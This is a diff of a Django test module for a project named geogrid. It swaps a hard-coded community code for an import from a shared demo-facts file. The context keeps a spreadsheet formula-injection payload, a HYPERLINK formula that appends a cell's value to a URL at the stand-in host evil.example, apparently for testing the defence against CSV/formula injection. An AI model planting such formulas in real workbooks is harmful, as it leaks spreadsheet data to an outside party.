@@ -8,10 +8,10 @@ from geogrid.core.xlsx import save_workbook
 from geogrid.grids.models import Grid
 from geogrid.imports.services import ImportOptions, run_import
 from geogrid.staff.models import StaffMember
+from tests.demo_facts import COMMUNITY
 
 pytestmark = pytest.mark.django_db
 
-COMMUNITY = "522624001001"
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&I2,"点击")'
 
 
